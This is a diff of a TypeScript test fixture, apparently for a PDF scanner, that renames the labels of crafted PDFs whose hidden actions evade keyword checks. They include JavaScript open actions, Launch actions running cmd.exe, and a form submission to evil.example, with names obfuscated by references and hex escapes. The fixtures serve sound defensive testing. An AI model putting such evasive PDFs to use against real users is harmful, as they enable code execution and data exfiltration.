@@ -83,23 +83,23 @@ export const bombs: Readonly<Record<string, () => Buffer>> = {
 
 /** PDFs with actions, each with its keyword behind a reference or an escape. */
 export const hiddenActions: Readonly<Record<string, Buffer>> = {
-  'the name of its action by reference': pageWith({
+  'a script action whose type is an indirect reference': pageWith({
     catalog: `/OpenAction<</S ${firstMore} 0 R>>`,
     more: ['/JavaScript'],
   }),
-  'the name of a launch by reference': pageWith({
+  'a launch action whose type is an indirect reference': pageWith({
     catalog: `/OpenAction<</S ${firstMore} 0 R/F(cmd.exe)>>`,
     more: ['/Launch'],
   }),
-  'the name of a launch by reference to a reference': pageWith({
+  'a launch action whose type is a reference to a reference': pageWith({
     catalog: `/OpenAction<</S ${firstMore} 0 R/F(cmd.exe)>>`,
     more: [`${firstMore + 1} 0 R`, '/L#61unch'],
   }),
-  'an annotation of a kind by reference': pageWith({
+  'an annotation whose subtype is an indirect reference': pageWith({
     page: `/Annots[<</Type/Annot/Rect[0 0 9 9]/Subtype ${firstMore} 0 R>>]`,
     more: ['/FileAttachment'],
   }),
-  'a page that sends a form when it is opened': pageWith({
+  'a link with a submit action whose type is an indirect reference': pageWith({
     page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S ${firstMore} 0 R/F(https://evil.example)>>>>]`,
     more: ['/Submit#46orm'],
   }),
